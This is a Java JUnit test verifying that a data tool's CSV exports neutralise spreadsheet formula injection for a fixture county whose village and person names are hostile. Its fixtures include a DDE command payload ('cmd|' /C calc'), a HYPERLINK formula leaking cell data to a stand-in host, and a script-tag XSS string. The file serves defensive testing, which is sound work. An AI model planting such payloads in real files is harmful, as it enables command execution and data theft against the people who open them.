package org.daijiao.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.daijiao.PipelineFixture;
import org.daijiao.TestSpark;
import org.daijiao.privacy.AnalystExport;
import org.daijiao.privacy.Pseudonyms;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * The CSV files people open in a spreadsheet ({@code export --for analysts}, {@code diff --out})
 * hold no cell that a spreadsheet would evaluate, for a county whose clerks typed formulas and HTML
 * as villages and names ({@link HostileCounty}): such a text is written with a quote in front
 * (OWASP's advice on CSV injection), numbers stay numbers, and {@code sql --format csv} stays
 * exact.
 *
 * <p>Slow (about a minute: a pipeline run and two recorded decides, shared with {@link
 * BackupRestoreTest}): run by {@code .ci/run} in its own step and by {@code mvn verify -Pslow}.
 */
@Tag("slow")
class SpreadsheetFilesTest {
  /** What Excel, WPS and LibreOffice take for the start of a formula (OWASP, CSV injection). */
  private static final Pattern FORMULA = Pattern.compile("^[=+\\-@\\t\\r\uFF1D\uFF0B\uFF0D\uFF20]");

  /** A number: a cell starting with a minus is a formula unless it is one. */
  private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");

  private static HostileCounty county;
  private static Path exported;
  private static Path diffed;
  private static List<AnalystExport.Written> written;
  private static CliRun diff;

  @BeforeAll
  static void exportAndDiffTheHostileCounty() {
    county = HostileCounty.get();
    exported = PipelineFixture.tempDir("hostile-export").resolve("for-analysts");
    diffed = PipelineFixture.tempDir("hostile-diff").resolve("follow-up");
    // The writer itself: the command reads the county secret from the environment.
    written =
        AnalystExport.write(
            TestSpark.session(),
            county.warehouse,
            new Pseudonyms("pengshui-county-secret-0123456789".getBytes(StandardCharsets.UTF_8)),
            exported);
    diff =
        CliRun.of(
            "diff",
            "--warehouse",
            county.warehouse.root(),
            "--from",
            county.june.runId(),
            "--to",
            county.december.runId(),
            "--out",
            diffed.toString());
  }

  @Test
  void noCellOfAnExportedOrDiffFileIsAFormula() throws IOException {
    assertThat(written).hasSizeGreaterThanOrEqualTo(6);
    assertThat(diff.exitCode()).as("diff; stderr: %s", diff.err()).isZero();
    List<Path> files = new ArrayList<>();
    for (Path dir : List.of(exported, diffed)) {
      try (Stream<Path> list = Files.list(dir)) {
        list.filter(f -> f.toString().endsWith(".csv")).forEach(files::add);
      }
    }
    assertThat(files.stream().map(f -> f.getFileName().toString()))
        .contains("coverage_stats.csv", "worklist.csv", "subsidy_ledger.csv", "ledger-changes.csv");
    for (Path f : files) {
      for (Map<String, String> row : rows(f)) {
        row.forEach(
            (column, cell) ->
                assertThat(FORMULA.matcher(cell).find() && !NUMBER.matcher(cell).matches())
                    .as("%s, column %s: a spreadsheet would evaluate %s", f, column, cell)
                    .isFalse());
      }
    }
  }

  @Test
  void theHostileVillagesReachTheAnalystsFilesAsText() throws IOException {
    // 鼓楼社区 became =1+1: its village row in the coverage statistics, its people in the work list.
    assertThat(column(exported.resolve("coverage_stats.csv"), "village"))
        .contains("'=1+1", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "'-1+1")
        .contains("'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"河堡\")");
    assertThat(column(exported.resolve("worklist.csv"), "village")).contains("'=1+1");
  }

  @Test
  void theHostileNamesReachTheDataTeamsDiffAsTextAndNumbersStayNumbers() throws IOException {
    List<Map<String, String>> changes = rows(diffed.resolve(DiffCommand.CHANGES_FILE));
    // P08 (DIBAO from 2022-09-15) and P07 (16 on 2022-11-10) entered the ledger after June.
    assertThat(changes)
        .anySatisfy(
            r -> {
              assertThat(r.get("name")).isEqualTo("'=HYPERLINK(\"http://example.invalid\",\"田八\")");
              assertThat(r.get("change")).isEqualTo("ENTERED");
              assertThat(r.get("subsidy_to")).as("a decimal column: a number").isEqualTo("70.00");
            })
        .anySatisfy(
            r -> {
              assertThat(r.get("name")).isEqualTo("'@田七");
              assertThat(r.get("village"))
                  .isEqualTo("'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"河堡\")");
            })
        .anySatisfy(r -> assertThat(r.get("name")).isEqualTo("<script>alert('田一')</script>"));
    for (Map<String, String> r : rows(diffed.resolve(DiffCommand.COVERAGE_FILE))) {
      assertThat(r.get("insured_rate_change"))
          .as("a number, even when negative, is written as it is")
          .matches("|" + NUMBER.pattern());
    }
  }

  @Test
  void sqlCsvFeedsOtherProgramsAndStaysExact() {
    CliRun sql =
        CliRun.of(
            "sql",
            "--warehouse",
            county.warehouse.root(),
            "--format",
            "csv",
            "SELECT DISTINCT village FROM gold.coverage_stats WHERE village = '=1+1'");
    assertThat(sql.exitCode()).as("stderr: %s", sql.err()).isZero();
    assertThat(sql.out()).isEqualTo("village\n=1+1\n");
  }

  private static List<String> column(Path file, String column) throws IOException {
    return rows(file).stream().map(r -> r.get(column)).toList();
  }

  private static List<Map<String, String>> rows(Path file) throws IOException {
    String text = Files.readString(file, StandardCharsets.UTF_8).replace("\uFEFF", "");
    List<Map<String, String>> rows = new ArrayList<>();
    try (CSVParser csv = CSVParser.parse(text, CSVFormat.RFC4180.builder().setHeader().build())) {
      for (CSVRecord r : csv) {
        rows.add(r.toMap());
      }
    }
    return rows;
  }
}
